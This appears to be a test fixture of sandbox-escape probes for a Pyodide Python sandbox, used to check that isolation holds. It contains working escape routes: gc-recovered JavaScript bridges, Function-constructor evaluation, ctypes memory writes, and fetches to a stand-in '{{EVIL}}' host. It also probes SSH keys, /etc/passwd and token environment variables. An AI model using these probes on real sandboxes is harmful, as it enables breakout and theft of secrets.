#: js-module
from js import fetch
won = 'ESCAPED ' + str(fetch('{{EVIL}}/js'))

#: js-finder
won = 'fetch gave ' + str(browser().fetch('{{EVIL}}/finder'))

#: pyfetch
import asyncio
import pyodide.http
won = 'ESCAPED ' + str(asyncio.ensure_future(pyodide.http.pyfetch('{{EVIL}}/pyfetch')))

#: open-url
import pyodide.http
won = 'ESCAPED ' + pyodide.http.open_url('{{EVIL}}/open').read()

#: run-js
from pyodide.code import run_js
won = 'ESCAPED ' + str(run_js('1 + 1'))

#: run-js-found
import gc
found = [one for one in gc.get_objects() if getattr(one, '__name__', '') == 'run_js']
won = f'ESCAPED {found[0]("1 + 1")}'

#: pyfetch-found
import gc
found = [one for one in gc.get_objects() if getattr(one, '__name__', '') == 'pyfetch']
coroutine = found[0]('{{EVIL}}/found')
coroutine.send(None)
won = 'ESCAPED pyfetch was sent'

#: open-url-found
import gc
found = [one for one in gc.get_objects() if getattr(one, '__name__', '') == 'open_url']
won = 'ESCAPED ' + found[0]('{{EVIL}}/found').read()

#: finder-again
import gc
import sys
finder = next(one for one in gc.get_objects() if type(one).__name__ == 'JsFinder')
sys.meta_path.insert(0, finder)
import js
won = 'fetch gave ' + str(js.fetch('{{EVIL}}/again'))

#: module-of-the-loader
import gc
finder = next(one for one in gc.get_objects() if type(one).__name__ == 'JsFinder')
loader = finder.jsproxies['pyodide_js']
loader.loadPackage('{{EVIL}}/pkg-1.0-py3-none-any.whl')
won = 'no'

#: loader-internals
import gc
finder = next(one for one in gc.get_objects() if type(one).__name__ == 'JsFinder')
loader = finder.jsproxies['pyodide_js']
api = loader._api
won = 'ESCAPED ' + str(api.runPython('__import__("js").fetch'))

#: loader-file
import gc
finder = next(one for one in gc.get_objects() if type(one).__name__ == 'JsFinder')
won = str(finder.jsproxies['pyodide_js']._api.loadBinaryFile('{{EVIL}}/binary'))

#: emscripten-module
import gc
finder = next(one for one in gc.get_objects() if type(one).__name__ == 'JsFinder')
module = finder.jsproxies['pyodide_js']._module
won = str(module.FS.createLazyFile('/', 'lazy', '{{EVIL}}/lazy', True, False))
won += open('/lazy').read()

#: install-packages
import micropip
won = 'ESCAPED micropip'

#: core-import
import _pyodide_core
won = 'ESCAPED ' + str(_pyodide_core.run_js)

#: core-from-modules
import sys
core = sys.modules['_pyodide_core']
won = str([getattr(core, name).constructor for name in dir(core) if hasattr(getattr(core, name), 'constructor')])

#: constructor-of-constructor
import sys
to_js = sys.modules['_pyodide_core'].to_js
won = 'ESCAPED ' + str(to_js([1]).constructor.constructor('return 1')())

#: constructor-of-async
import sys
to_js = sys.modules['_pyodide_core'].to_js
make = to_js(lambda: 1).constructor
won = 'ESCAPED ' + str(make('return fetch("{{EVIL}}/ctor")')())

#: eval-of-globals
won = 'ESCAPED ' + str(to_js([1]).constructor.eval('1+1')) if 'to_js' in globals() else 'no'

#: create-proxy
import sys
proxy = sys.modules['_pyodide_core'].create_proxy(lambda: 1)
won = str(dir(proxy))[:100]

#: socket
import socket
connection = socket.create_connection(('127.0.0.1', int('{{EVIL_HOSTPORT}}'.split(':')[1])), 2)
connection.send(b'GET /socket HTTP/1.0\r\n\r\n')
won = 'ESCAPED ' + str(connection.recv(10))

#: raw-socket
import _socket
one = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
one.sendto(b'out', ('127.0.0.1', int('{{EVIL_HOSTPORT}}'.split(':')[1])))
won = 'no'

#: name-lookup
import socket
won = str(socket.gethostbyname('secret.example.com'))

#: urllib
import urllib.request
won = 'ESCAPED ' + str(urllib.request.urlopen('{{EVIL}}/urllib').read())

#: http-client
import http.client
connection = http.client.HTTPConnection('{{EVIL_HOSTPORT}}')
connection.request('GET', '/client')
won = 'ESCAPED ' + str(connection.getresponse())

#: asyncio-connection
import asyncio
host, port = '{{EVIL_HOSTPORT}}'.split(':')
won = 'ESCAPED ' + str(asyncio.run(asyncio.open_connection(host, int(port))))

#: smtp
import smtplib
host, port = '{{EVIL_HOSTPORT}}'.split(':')
won = 'ESCAPED ' + str(smtplib.SMTP(host, int(port), timeout=1))

#: web-browser
import webbrowser
won = str(webbrowser.open('{{EVIL}}/browser'))

#: process
import subprocess
won = 'ESCAPED ' + str(subprocess.check_output(['ls']))

#: system
import os
won = str(os.system('ls'))

#: fork
import os
won = 'ESCAPED ' + str(os.fork())

#: thread
import threading
threading.Thread(target=print).start()
won = 'ESCAPED a thread'

#: foreign-functions
import ctypes
library = ctypes.CDLL(None)
library.emscripten_run_script(b"fetch('{{EVIL}}/ctypes')")
won = 'no'

#: foreign-functions-with-text
import ctypes
library = ctypes.CDLL(None)
library.emscripten_run_script_string.restype = ctypes.c_char_p
won = 'ESCAPED ' + str(library.emscripten_run_script_string(b'1+1'))

#: foreign-functions-async
import ctypes
ctypes.CDLL(None).emscripten_async_wget(b'{{EVIL}}/wget', b'/x', None, None)

#: shared-library
import ctypes
won = 'ESCAPED ' + str(ctypes.CDLL('{{EVIL}}/library.so'))

#: any-memory
import ctypes
won = ctypes.string_at(0, 64).hex()[:20]
ctypes.memset(1024, 255, 10_000_000)

#: null-pointer
import ctypes
ctypes.CFUNCTYPE(None)(12345678)()

#: exit
import os
os._exit(0)

#: abort
import os
os.abort()

#: kill
import os
import signal
os.kill(os.getpid(), signal.SIGKILL)

#: interrupt
import signal
signal.raise_signal(signal.SIGINT)
won = 'no'

#: alarm
import signal
signal.signal(signal.SIGALRM, lambda *_: print('late'))
signal.alarm(1)
won = 'no'

#: exit-later
import atexit
import sys
atexit.register(lambda: browser().fetch('{{EVIL}}/atexit'))
sys.exit(3)

#: finalizer
class Late:
    def __del__(self):
        won = browser().fetch('{{EVIL}}/del')
Late()

#: files-of-the-machine
import os
names = [name for name in ('/etc/passwd', '/etc/hostname', '/root/.ssh', '/proc/self/environ') if os.path.exists(name)]
won = f'ESCAPED {names}' if names else 'no'

#: environment
import os
names = [name for name in os.environ if 'TOKEN' in name or 'KEY' in name or 'PLUGBENCH' in name]
won = f'ESCAPED {names}' if names else 'no'
